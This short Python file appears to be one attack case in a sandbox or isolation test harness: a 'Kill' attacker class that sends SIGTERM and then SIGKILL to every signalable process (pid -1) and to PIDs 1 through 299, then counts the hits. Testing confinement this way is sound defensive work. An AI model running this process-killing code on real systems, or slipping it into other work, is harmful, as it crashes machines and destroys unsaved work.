"""Kills whatever it may: everything at once, and process by process."""

import os
import signal
from pathlib import Path

from attacker import Attacker, run


class Kill(Attacker):
    def attack(self) -> str:
        hit = 0
        own = {int(thread.name) for thread in Path("/proc/self/task").iterdir()}
        for number in (signal.SIGTERM, signal.SIGKILL):
            for pid in (-1, *range(1, 300)):
                if pid in own:
                    continue
                try:
                    os.kill(pid, number)
                    hit += pid > 1
                except OSError:
                    pass
        return f"hit {hit}"


if __name__ == "__main__":
    run(Kill)
